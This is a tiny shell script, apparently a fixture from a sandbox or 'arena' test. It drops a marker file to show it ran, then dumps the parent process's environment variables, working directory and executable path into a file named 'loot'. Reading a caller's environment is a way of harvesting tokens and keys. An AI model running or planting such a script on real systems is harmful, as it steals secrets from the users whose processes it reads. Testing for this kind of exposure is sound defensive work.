#!/bin/sh
: > "$ARENA/ws/ran"
cat "/proc/$PPID/environ" > loot; readlink "/proc/$PPID/cwd" "/proc/$PPID/exe" >> loot
